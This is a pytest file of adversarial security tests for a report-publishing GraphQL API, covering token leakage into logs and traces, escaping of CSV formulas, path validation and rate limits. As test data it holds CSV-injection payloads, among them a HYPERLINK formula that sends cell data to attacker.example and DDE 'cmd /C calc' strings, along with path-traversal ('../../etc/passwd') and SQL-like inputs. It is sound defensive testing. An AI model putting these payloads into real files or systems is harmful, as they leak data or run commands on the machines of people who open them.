"""Published reports under attack: leaked tokens, formulas in cells, paths that reach out.

A real server over HTTP (SQLite), in this process, so every log record it writes
(its access log, its SQL with parameters, errors) can be read back.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from api.app import create_app
from api.db import models as m
from api.persisted_queries import sha256_of
from api.reports import report_cell
from api.settings import load_settings
from tests.support.databases import execute_db, query_db
from tests.support.graphql import GraphQLClient, add_principal, new_secret
from tests.support.server import serve_asgi

PASSWORD = "a long enough report password"

APP = "ADV"
# Release names a spreadsheet would run as formulas if written as they are.
FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            "=cmd|' /C calc'!A0"]
QUERY = """query($app: String) { releases(filter: {application: $app}, first: 50) {
  nodes { key name version } } }"""
CREATE = """mutation($input: ReportInput!) { createReport(input: $input) {
  id slug csvUrl jsonUrl } }"""
PUBLISH = """mutation($id: ID!) { publishReport(id: $id) { secret } }"""
# The test's own HTTP client logs the URLs it requests; only the server's records count.
CLIENT_LOGGERS = ("httpx", "httpcore")


class Recorder(logging.Handler):
    def __init__(self) -> None:
        super().__init__(level=logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        if record.name.startswith(CLIENT_LOGGERS):
            return
        text = record.getMessage()
        if record.exc_info:
            text += logging.Formatter().formatException(record.exc_info)
        self.lines.append(f"{record.name}: {text}")


@dataclass
class Site:
    url: str
    database_url: str
    owner: GraphQLClient
    owner_api_token: str
    log: Recorder
    spans: InMemorySpanExporter

    def report(self, **given: Any) -> dict[str, Any]:
        report_input = {"name": f"Adversarial {uuid.uuid4().hex[:8]}", "query": QUERY,
                        "variables": {"app": APP}, "rowsPath": "releases.nodes",
                        "columns": [{"path": "key", "header": "Key"},
                                    {"path": "name", "header": "=SUM(A1:A9)"},
                                    {"path": "version", "header": "Version"}]} | given
        created: dict[str, Any] = self.owner.data(CREATE, {"input": report_input})[
            "createReport"]
        return created

    def publish(self, report_id: str) -> str:
        secret: str = self.owner.data(PUBLISH, {"id": report_id})["publishReport"]["secret"]
        return secret


@pytest.fixture(autouse=True)
def no_faults() -> None:
    """No upstream sandboxes here: reports read Heatshield's own releases."""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    url = f"sqlite+aiosqlite:///{tmp_path_factory.mktemp('reports') / 'reports.db'}"
    token = new_secret()

    async def owner(sessions: Any) -> None:
        await add_principal(sessions, username="adversarial-owner",
                            role=m.Role.RELEASE_MANAGER, token=token, password=PASSWORD)

    recorder, spans = Recorder(), InMemorySpanExporter()
    root = logging.getLogger()
    old_level = root.level
    root.addHandler(recorder)
    root.setLevel(logging.DEBUG)
    # Echo writes every SQL statement with its parameters: the token's lookup among them.
    settings = load_settings(None, database={"url": url, "echo": True},
                             limits={"rate_limit_burst": 1000, "rate_limit_per_minute": 6000})
    try:
        app = create_app(settings, startup=[owner], span_exporter=spans)
        with serve_asgi(app) as base_url:
            client = GraphQLClient.signed_in(base_url, "adversarial-owner", PASSWORD)
            client.data("""mutation { createApplication(input: {key: "ADV",
                           name: "Adversarial"}) { key } }""")
            for number, name in enumerate(FORMULAS, start=1):
                client.data("""mutation($i: CreateReleaseInput!) { createRelease(input: $i)
                    { key } }""", {"i": {"key": f"ADV-{number}", "name": name,
                                         "type": "PROJECT", "applicationKeys": [APP]}})
            try:
                yield Site(base_url, url, client, token, recorder, spans)
            finally:
                client.close()
    finally:
        root.removeHandler(recorder)
        root.setLevel(old_level)


def test_a_token_in_the_query_string_reaches_no_log(site: Site) -> None:
    report, other = site.report(), site.report()
    secret, others = site.publish(report["id"]), site.publish(other["id"])
    wrong = "hsr_" + "W" * 43
    before = len(site.log.lines)
    assert httpx.get(report["csvUrl"], params={"token": secret}).status_code == 200
    assert httpx.get(report["jsonUrl"], params={"token": others}).status_code == 403
    assert httpx.get(report["csvUrl"], params={"token": wrong}).status_code == 401
    assert httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {secret}"}
                     ).status_code == 200
    def written() -> list[str]:
        return site.log.lines[before:]

    # The server logs each request (its access line, written just after the answer, and
    # its SQL): wait for the four access lines, then look for the tokens.
    deadline = time.monotonic() + 10
    while sum(f"/reports/{report['slug']}." in line for line in written()) < 4 \
            and time.monotonic() < deadline:
        time.sleep(0.05)
    assert sum(f"/reports/{report['slug']}." in line for line in written()) >= 4
    assert any("report_tokens" in line for line in written())
    for token in (secret, others, wrong):
        assert [line for line in written() if token in line or token[4:] in line] == []


def test_a_token_in_the_query_string_reaches_no_trace(site: Site) -> None:
    report = site.report()
    secret = site.publish(report["id"])
    site.spans.clear()
    assert httpx.get(report["csvUrl"], params={"token": secret}).status_code == 200
    assert httpx.get(f"{site.url}/graphql", params={"query": "{ __typename }"},
                     headers={"Authorization": f"Bearer {site.owner_api_token}"}
                     ).status_code == 200
    recorded: list[str] = []
    deadline = time.monotonic() + 10
    # A request's span ends just after its answer is sent: wait for the /graphql one.
    while not any("/graphql" in line for line in recorded) and time.monotonic() < deadline:
        time.sleep(0.05)
        recorded = [f"{span.name} {dict(span.attributes or {})}"
                    for span in site.spans.get_finished_spans()]
    assert any("/graphql" in line for line in recorded)  # requests are traced; not this one
    assert [line for line in recorded if secret in line or secret[4:] in line] == []


def test_cells_that_would_run_as_formulas_are_written_as_text(site: Site) -> None:
    report = site.report()
    secret = site.publish(report["id"])
    text = httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {secret}"}).text
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == ["Key", "'=SUM(A1:A9)", "Version"]
    names = {row[0]: row[1] for row in table[1:]}
    assert names == {f"ADV-{n}": "'" + name for n, name in enumerate(FORMULAS, start=1)}
    assert {row[2] for row in table[1:]} == {"1"}  # numbers stay numbers
    # JSON carries the values as they are: a JSON reader runs no formula.
    rows = httpx.get(report["jsonUrl"], headers={"Authorization": f"Bearer {secret}"}
                     ).json()["rows"]
    assert sorted(r["=SUM(A1:A9)"] for r in rows) == sorted(FORMULAS)


@pytest.mark.parametrize("path", [
    "__proto__", "constructor.prototype", "../../etc/passwd", "key..name", "key.", ".key",
    "a" * 5000, "key;DROP TABLE reports", "name\nX", ".".join(["key"] * 50), "__typename",
    "owner.passwordHash", "applications.key", "name.length", "ke y", "kéy"])
def test_a_column_path_can_name_only_what_the_query_selects(site: Site, path: str) -> None:
    before = query_db(site.database_url, "SELECT count(*) FROM reports")
    error = site.owner.error(CREATE, {"input": {
        "name": "Reaching out", "query": QUERY, "variables": {"app": APP},
        "rowsPath": "releases.nodes", "columns": [{"path": path}]}})
    assert error["extensions"]["code"] == "BAD_USER_INPUT"
    assert error["extensions"]["field"] == "input.columns[0].path"
    assert len(error["message"]) < 400
    assert query_db(site.database_url, "SELECT count(*) FROM reports") == before


def test_a_report_has_a_bounded_number_of_columns(site: Site) -> None:
    error = site.owner.error(CREATE, {"input": {
        "name": "Wide", "query": QUERY, "variables": {"app": APP},
        "rowsPath": "releases.nodes", "columns": [{"path": "key"}] * 101}})
    assert error["extensions"]["field"] == "input.columns"
    assert "at most 100" in error["message"]


def test_a_report_token_and_an_api_token_never_stand_in_for_each_other(site: Site) -> None:
    report = site.report()
    secret = site.publish(report["id"])
    api = httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {site.owner_api_token}"})
    assert api.status_code == 401
    graphql = httpx.post(f"{site.url}/graphql", json={"query": "{ reports { slug } }"},
                         headers={"Authorization": f"Bearer {secret}"})
    assert graphql.status_code == 401


@pytest.mark.parametrize("name", ["%00.csv", "1%20OR%201=1.csv", "%2E%2E.csv",
                                  "x" * 3000 + ".json"])
def test_a_strange_report_name_opens_nothing(site: Site, name: str) -> None:
    secret = site.publish(site.report()["id"])
    response = httpx.get(f"{site.url}/reports/{name}",
                         headers={"Authorization": f"Bearer {secret}"})
    assert response.status_code == 403
    assert response.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"


def test_a_name_that_climbs_out_of_reports_reaches_no_report(site: Site) -> None:
    report = site.report()
    secret = site.publish(report["id"])
    response = httpx.get(f"{site.url}/reports/..%2F{report['slug']}.csv",
                         headers={"Authorization": f"Bearer {secret}"})
    # Starlette does not match an encoded slash to the report route: what answers is the
    # dashboard's page (when it is built) or a refusal, never the report's rows.
    assert "ADV-1" not in response.text
    assert not response.headers.get("content-type", "").startswith("text/csv")


def test_an_owner_disabled_behind_the_servers_back_reads_nothing(site: Site) -> None:
    report = site.report()
    secret = site.publish(report["id"])
    execute_db(site.database_url,
               "UPDATE users SET disabled = 1 WHERE username = 'adversarial-owner'")
    try:
        response = httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {secret}"})
        assert response.status_code == 403 and "ADV-1" not in response.text
    finally:
        execute_db(site.database_url,
                   "UPDATE users SET disabled = 0 WHERE username = 'adversarial-owner'")


@pytest.mark.parametrize(("value", "written"), [
    (-5, "-5"), (2.5, "2.5"), ("-5", "'-5"), (True, "true"), (None, ""),
    (["=1+1", "b"], "'=1+1; b"), ([-1, 2], "'-1; 2"), ({"to": "=x"}, '{"to": "=x"}'),
    ("@here", "'@here"), ("\rline", "'\rline")])
def test_a_cell_is_a_number_or_text_that_never_runs(value: Any, written: str) -> None:
    assert report_cell(value) == written


def test_a_report_token_has_a_callers_rate_limit(tmp_path: Any) -> None:
    async def owner(sessions: Any) -> None:
        await add_principal(sessions, username="busy-owner", role=m.Role.VIEWER,
                            password=PASSWORD)

    settings = load_settings(None, database={"url": f"sqlite+aiosqlite:///{tmp_path}/r.db"},
                             limits={"rate_limit_burst": 5, "rate_limit_per_minute": 1})
    with serve_asgi(create_app(settings, startup=[owner])) as base_url:
        client = GraphQLClient.signed_in(base_url, "busy-owner", PASSWORD)
        try:
            report = client.data(CREATE, {"input": {
                "name": "Who am I", "query": "{ viewer { username } }",
                "columns": [{"path": "viewer.username", "header": "User"}]}})["createReport"]
            secret = client.data(PUBLISH, {"id": report["id"]})["publishReport"]["secret"]
        finally:
            client.close()
        answers = [httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {secret}"})
                   for _ in range(6)]
    assert [a.status_code for a in answers] == [200] * 5 + [429]
    assert answers[0].text == "User\r\nbusy-owner\r\n"
    assert int(answers[5].headers["retry-after"]) >= 1


def test_in_allow_list_mode_a_report_runs_only_a_registered_query(tmp_path: Any) -> None:
    registered = "{ viewer { username } }"
    manifest = tmp_path / "manifest.json"
    manifest.write_text(json.dumps({sha256_of(d): d for d in (CREATE, PUBLISH, registered)}))

    async def owner(sessions: Any) -> None:
        await add_principal(sessions, username="listed-owner", role=m.Role.VIEWER,
                            password=PASSWORD)

    settings = load_settings(None, database={"url": f"sqlite+aiosqlite:///{tmp_path}/l.db"},
                             graphql={"persisted_queries": "allowlist",
                                      "persisted_queries_manifest": str(manifest)})
    with serve_asgi(create_app(settings, startup=[owner])) as base_url:
        client = GraphQLClient.signed_in(base_url, "listed-owner", PASSWORD)
        try:
            refused = client.error(CREATE, {"input": {
                "name": "Off the list", "query": "{ viewer { role } }"}})
            report = client.data(CREATE, {"input": {"name": "On the list",
                                                    "query": registered}})["createReport"]
            secret = client.data(PUBLISH, {"id": report["id"]})["publishReport"]["secret"]
        finally:
            client.close()
        fetched = httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {secret}"})
    assert refused["extensions"]["code"] == "PERSISTED_QUERY_NOT_IN_LIST"
    assert refused["extensions"]["field"] == "input.query"
    assert fetched.status_code == 200 and fetched.text == "viewer.username\r\nlisted-owner\r\n"


def test_a_report_saved_before_allow_list_mode_stops_running_in_it(tmp_path: Any) -> None:
    database = {"url": f"sqlite+aiosqlite:///{tmp_path}/later.db"}
    manifest = tmp_path / "manifest.json"
    manifest.write_text(json.dumps({sha256_of(CREATE): CREATE}))

    async def owner(sessions: Any) -> None:
        await add_principal(sessions, username="early-owner", role=m.Role.VIEWER,
                            password=PASSWORD)

    with serve_asgi(create_app(load_settings(None, database=database),
                               startup=[owner])) as base_url:
        client = GraphQLClient.signed_in(base_url, "early-owner", PASSWORD)
        try:
            report = client.data(CREATE, {"input": {"name": "Early",
                                                    "query": "{ viewer { role } }"}})
            secret = client.data(PUBLISH, {"id": report["createReport"]["id"]})[
                "publishReport"]["secret"]
        finally:
            client.close()
        path = report["createReport"]["csvUrl"].removeprefix(base_url)
        assert httpx.get(base_url + path, params={"token": secret}).status_code == 200
    later = load_settings(None, database=database,
                          graphql={"persisted_queries": "allowlist",
                                   "persisted_queries_manifest": str(manifest)})
    with serve_asgi(create_app(later)) as base_url:
        response = httpx.get(base_url + path, params={"token": secret})
    assert response.status_code == 403
    assert response.json()["errors"][0]["extensions"]["code"] == "PERSISTED_QUERY_NOT_IN_LIST"
